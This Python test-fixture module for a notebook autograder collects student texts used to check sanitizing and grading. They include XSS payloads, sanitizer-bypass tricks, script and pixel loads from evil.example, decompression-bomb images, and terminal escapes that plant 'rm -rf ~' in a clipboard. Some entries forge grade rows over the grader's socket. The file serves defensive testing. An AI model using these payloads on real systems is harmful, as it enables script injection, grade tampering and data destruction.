"""Texts of a student's own: what would run or call home in the page that shows them, and what is honest.

``ACTIVE`` hold something that has to be taken out and flagged; ``TRICKS`` try to get out of what cleans them;
``HONEST`` must look as nbconvert shows them.
"""

from __future__ import annotations

import base64
import functools
import io
import struct
import zlib

import nbformat
from nbformat import NotebookNode
from PIL import Image

from autograder.catalogue.lesson import Lesson
from corpus.entry import WITHOUT_ADAM, Entry, notebook

ACTIVE = {
    # Links
    "an entity in the scheme": "[Next submission](java&#115;cript:alert(document.domain))",
    "an entity for the colon": "[x](javascript&colon;alert(1))",
    "an entity without its end": '<a href="java&#115cript:alert(1)">x</a>',
    "plain": "[x](javascript:alert(1))",
    "capitals": "[x](JaVaScRiPt:alert(1))",
    "a line break inside by an entity": '<a href="java&NewLine;script:alert(1)">x</a>',
    "a control before it": '<a href="&#1;javascript:alert(1)">x</a>',
    "a reference": "[x][1]\n\n[1]: javascript:alert(1)",
    "a reference whose entity": "[x]\n\n[x]: javascript&#58;alert(1)",
    "an autolink": "<javascript:alert(1)>",
    "vbscript": "[x](vbscript:msgbox(1))",
    "data as a link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a link in a heading": "# [x](javascript:alert(1))\n\n[x](javascript:alert(1))\n===",
    "a link in a table": "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "a link in a list in a quote": "> 1. [x](javascript:alert(1))",
    "a link around a picture": "[![a](https://evil.example/a.png)](javascript:alert(1))",
    "a link of HTML in a list": "- <a href='javascript:alert(1)' onclick=alert(1)>x</a>",
    "a definition": "term\n: <a href=javascript:alert(1)>x</a>",
    # Pictures
    "a picture from elsewhere": "![](https://evil.example/pixel.png)",
    "a picture from elsewhere by reference": "![a][b]\n\n[b]: http://evil.example/pixel.png 'title'",
    "a picture of HTML": '<img src="https://evil.example/p.png" width="1" height="1">',
    "a picture with a script": "![i](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "a picture of HTML with a script": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    # HTML
    "a script": "<script>fetch('/formgrader/api/grade/1', {method: 'PUT'})</script>",
    "a script within words": "well <script>alert(1)</script> then",
    "a script of another's": "<script src=https://evil.example/x.js></script>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler in capitals": '<b OnClIcK="alert(1)">x</b>',
    "a handler of an allowed tag": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "a handler in a heading": "# Title <b onmouseover=alert(1)>x</b>",
    "a frame": "<iframe src=https://evil.example></iframe>",
    "a frame's own page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": "<object data=https://evil.example/x.swf></object><embed src=x>",
    "a picture that is drawn": "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "a formula of HTML": "<math><maction actiontype='statusline' xlink:href='javascript:alert(1)'>x</maction></math>",
    "another page after a while": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "another base": "<base href=https://evil.example/>",
    "a style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "sound": "<audio src=https://evil.example/a.mp3 autoplay></audio><video poster=//evil.example/x></video>",
    "nested tags": "<scr<script>ipt>alert(1)</scr</script>ipt>",
}
TRICKS = {
    "a handler without quotes or blanks": "<img/src=x/onerror=alert(1)>",
    "a tab inside": "[x](<java\tscript:alert(1)>)",
    "a blank before it": "[x](<  javascript:alert(1)>)",
    # Out of the block of HTML
    "the end of the block": "</div></div></div></div><b>out</b>",
    "the end of a script": "</script></style></textarea></title></pre><b>x</b>",
    "an empty line in HTML": "<div>\n\n[x](javascript:alert(1))\n\n</div>",
    "an empty line by entities": "<b>a</b>&#13;&#13;[x](javascript:alert(1))&#10;&#10;[x](javascript:alert(1))",
    "entities that become HTML": "<b>a</b> &lt;script&gt;alert(1)&lt;/script&gt;",
    "entities twice": "<b>a</b> &amp;lt;script&amp;gt; [x](java&amp;#115;cript:alert(1))",
    "characters as HTML after a heading": "# a\n\n`<script>alert(1)</script>` \\<img src=x onerror=alert(1)\\>",
    "an open comment": "# a\n\n<!-- \n\n<b>x</b>\n\n[x](javascript:alert(1))",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>-->",
    "a comment that ends with a bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "an instruction": "<?php <img src=x onerror=alert(1)> ?>",
    "a declaration": "<!DOCTYPE html [<!ENTITY x '<img src=x onerror=alert(1)>'>]>",
    "a pre with empty lines": "<pre>\n\na\n\n<img src=x onerror=alert(1)>\n\n</pre>",
    "an attribute without its end": '<b title="><img src=x onerror=alert(1)>',
    "the end of an attribute in a title": '[x](https://a.example "a\\" onclick=alert(1) b=\\"")',
    "the end of an attribute in an address": '[x](https://a.example/"onclick=alert(1)//)',
    "the end of an attribute in a picture's words": '![" onerror=alert(1) x="](data:image/png;base64,AAAA)',
    "the end of an attribute by an entity": "[x](https://a.example/&quot;onclick=alert(1)//)",
    # HTML that browsers and cleaners read differently
    "a style in a formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "a style in a drawing": '<svg></p><style><a id="</style><img src=x onerror=alert(1)>"></svg>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "a template": "<template><img src=x onerror=alert(1)></template>",
    "a field of text": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "plain text from here on": "<plaintext><b>x</b>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "a select": "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "a form in a form": "<form><form><button formaction=javascript:alert(1)>x</button></form>",
    "tables in tables": "<table><tr><td><table><a href=javascript:alert(1)>x</a></table></td></tr></table>",
    "a null character": "<scr\0ipt>alert(1)</scr\0ipt><img src=x \0onerror=alert(1)>",
    # What nbconvert and formgrader do with a page
    "an address of a file": "[x](files/javascript:alert(1)) <a href='/files/javascript:alert(1)'>x</a>",
    "an address of a file, twice": "[x](files/files/javascript:alert(1)) ![](files/https://evil.example/x)",
    "formgrader's own parts": '<div class="nbgrader_cell" id="check_Adam"><input id="check_Adam" class="score"></div>',
    "formgrader's id in a heading": "# check_adam_update\n\n# statusmessage",
    "over the whole page": '<a href="https://evil.example" style="position:fixed;inset:0" target=_blank>x</a>',
    "a table's side": '<table><tr><td style="text-align:right;background:url(https://evil.example)">x</td></tr></table>',
    "a style": "<style>body {background: url(https://evil.example)}</style>",
    "a wide picture": '<img src="attachment:a.png" width="99999999" height="100%">',
    "nothing is left and a file is named": "<style>x\n\n</style> ![](files/x) </style><style>[x](files/y)",
    "an open style and a file": "<style>a [x](files/x) ",
    # Formulas, which MathJax reads in the page
    "a formula with HTML": "$<img src=x onerror=alert(1)>$ and $$</div><script>alert(1)</script>$$",
    "a formula over cells": "\\begin{x}</div><img src=x onerror=alert(1)>\\end{x}",
    "an environment's name": "\\begin{a}\n\n<script>alert(1)</script>\n\n\\end{a} $`<img src=x onerror=alert(1)>`$",
    "a formula in the way of a block": "$$ a <div> $$ <div> $$\n\n<img src=x onerror=alert(1)>",
    "formulas that link": (
        "$\\href{javascript:alert(1)}{x}$ $\\def\\q{\\href}\\q{java&#115;cript:alert(1)}{y}$ "
        "$\\href{JaVaScRiPt:alert(1)}{z}$ $\\href{data:text/html,x}{w}$ $\\href{https://a.example}{v}$"
    ),
    "formulas with styles and letters": (
        "$\\style{position:fixed;background:url(https://evil.example)}{x} \\class{score}{y} \\cssId{check_Adam}{z} "
        "\\unicode[url(https://evil.example)]{x41} \\require{https://evil.example/x.js}$ "
        "$\\def\\a{\\a\\a}\\a$"
    ),
    # Code
    "a diagram": "```mermaid\n</pre><img src=x onerror=alert(1)><pre>\n```",
    "a fence that ends": "```\n<b>\n```\n<img src=x onerror=alert(1)>\n```",
    "a fence's language": '```<img/src=x/onerror=alert(1)>\nx\n```\n\n~~~"onclick=alert(1)\nx\n~~~',
    "code that is indented": "    <img src=x onerror=alert(1)>\n\n\t<script>alert(1)</script>",
    "footnotes": "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    # Addresses that lead elsewhere
    "an address without a scheme": "[x](//evil.example) [x](\\\\evil.example) [x](/formgrader/x) [x](?delete)",
    "an address with a backslash": "[x](https:\\\\evil.example) <a href='http:/\\evil.example'>x</a>",
    "other schemes": "[x](ms-msdt:/id) [x](file:///etc/passwd) [x](blob:x) [x](view-source:x) <ssh://x.example>",
    "directions": "\u202e[x](https://a.example/\u202egnp.exe)\u2066 txt",
    # Pictures that are pasted
    "an attachment that is missing": "![a](attachment:nowhere.png) <img src='attachment:nowhere.png'>",
    "an attachment of HTML": "![a](attachment:page.html) ![a](attachment:drawn.svg) [x](attachment:page.html)",
    "an attachment named as an attack": '![a](attachment:"onerror=alert(1).png)',
    "an attachment that is huge": "![a](attachment:huge.png)",
    # What takes nbconvert long: seconds to hours of each
    "languages that nobody knows": "~~~zz\n~~~\n" * 900,
    "empty lines": "\n" * 10_000,
    "brackets of formulas": "\\\\[ " * 2500,
    "too many brackets of files": "](files/<![CDATA[``" * 400,
}
HONEST = {
    "prose": "I *think* that **momentum** helps, don't \"quote\" me. It isn't `x < y`.",
    "formulas": "With $a<b$ and $x_i^*$:\n\n$$\n\\theta_{t+1} = \\theta_t - \\eta\\, m_t\n$$",
    "an environment": "\\begin{align}\nm_t &= \\beta_1 m_{t-1} \\\\\nv_t &< 1\n\\end{align}",
    "headings and formulas": "# My notes\n\n## On $\\beta$\n\ntext with $a < b$ and $\\begin{matrix}a & b\\end{matrix}$",
    "links": 'See [Kingma](https://arxiv.org/abs/1412.6980 "Adam") and https://pytorch.org/docs?a=1&b=2.',
    "mail": "<me@example.org>",
    "code": "```python\nimport numpy as np\n\n\ndef f(x):\n    return x['a'] < 1 & 2  # \"q\"\n```",
    "code without a language": "```\na < b\n\n[x](y)\n```\n\n    indented",
    "a table": "| lr | loss |\n|---:|:----:|\n| 0.1 | $x$ |\n| `a` | **b** |",
    "lists": "- a\n- b\n  1. c\n  2. d\n\n* e\n\n  f",
    "things to do": "- [ ] read\n- [x] done",
    "a quote": "> said\n>\n> > twice",
    "little HTML": "H<sub>2</sub>O<br>\n<b>bold</b> <kbd>Shift</kbd>\n\n<details><summary>More</summary>text</details>",
    "brackets and paths": "x[0] and [1, 2] in my files/data, see files/x.csv",
    "less and more": "a < b and b > c, 1 <2, x<y>z &amp; AT&T",
    "other letters": "מתמטיקה עם $x$ — Gradientenabstieg, naïve 学习率 🦀",
    "nothing": "",
}


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    """A real picture."""
    stream = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(stream, kind)
    return stream.getvalue()


@functools.cache
def huge_picture(side: int = 30_000) -> bytes:
    """A real PNG of few bytes: one bit a pixel, all of them black."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + name + data + struct.pack("!I", zlib.crc32(name + data))

    packer, row = zlib.compressobj(9), bytes(1 + (side + 7) // 8)
    rows = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    head = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pasted(data: bytes, kind: str = "image/png") -> dict[str, str]:
    """As notebooks hold a picture that was pasted into a text."""
    return {kind: base64.b64encode(data).decode()}


def attachments() -> dict[str, dict[str, str]]:
    """What is pasted into the cell of each of ``TRICKS``."""
    return {
        "a.png": pasted(picture()),
        "huge.png": pasted(huge_picture()),
        "page.html": pasted(b"<script>alert(1)</script>", "text/html"),
        "drawn.svg": pasted(b"<svg onload='alert(1)'/>", "image/svg+xml"),
        '"onerror=alert(1).png': pasted(picture()),
    }


def with_text(
    made: NotebookNode, text: str, pictures: dict[str, dict[str, str]] | None = None
) -> NotebookNode:
    """The notebook with one more text at its end."""
    cell = nbformat.v4.new_markdown_cell(text, id=f"text-{len(made.cells)}")
    if pictures is not None:
        cell.attachments = pictures
    made.cells.append(cell)
    return made


# Exceptions whose names do something to a terminal; they stand in the place of an answer to Adam.
CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
RUBBED_OUT = "\x1b[2K\x1b[1A\x9b2J\u202e"
NAMED = "raise type({name!r}, (Exception,), {{}})({said!r})"
FORGED_ROWS = "X\n zoe  graded  10 / 10\n" * 60
FORGED_DONE = (
    "import gc, socket, struct\ngc.unfreeze()\n"
    "loop = next(o for o in gc.get_objects() if isinstance(o, socket.socket))\n"
    "text = {text!r}.encode()\nloop.sendall(struct.pack('!cI', b'D', len(text)) + text)\n"
)


def _adam(code: str):
    return lambda lesson: notebook(lesson, {**lesson.solutions(), "Adam": code})


def _huge_outputs(lesson: Lesson) -> NotebookNode:
    """Each of the pictures takes 3.6 GB in a browser."""
    code = (
        "import base64\nfrom IPython.display import display\n"
        f"data = {base64.b64encode(huge_picture()).decode()!r}\n"
        "for _ in range(7): display({'image/png': data, 'text/plain': 'a figure'}, raw=True)"
    )
    return notebook(lesson, lesson.solutions(), after=code)


SHOWN = (
    Entry(
        "an exception named with terminal escapes",
        _adam(NAMED.format(name=CLIPBOARD + RUBBED_OUT, said="")),
        score=WITHOUT_ADAM,
    ),
    Entry("an exception with a long name", _adam(NAMED.format(name="A" * 4000, said="")), score=WITHOUT_ADAM),
    Entry(
        "an exception named with a line break",
        _adam(NAMED.format(name="E\nzoe graded 10 / 10", said="")),
        score=WITHOUT_ADAM,
    ),
    Entry(
        "an exception that says escapes", _adam(NAMED.format(name="E", said=RUBBED_OUT)), score=WITHOUT_ADAM
    ),
    Entry("a forged end with rows of others", _adam(FORGED_DONE.format(text=FORGED_ROWS)), state=None),
    Entry("pictures of a billion pixels", _huge_outputs, score=10.0),
)
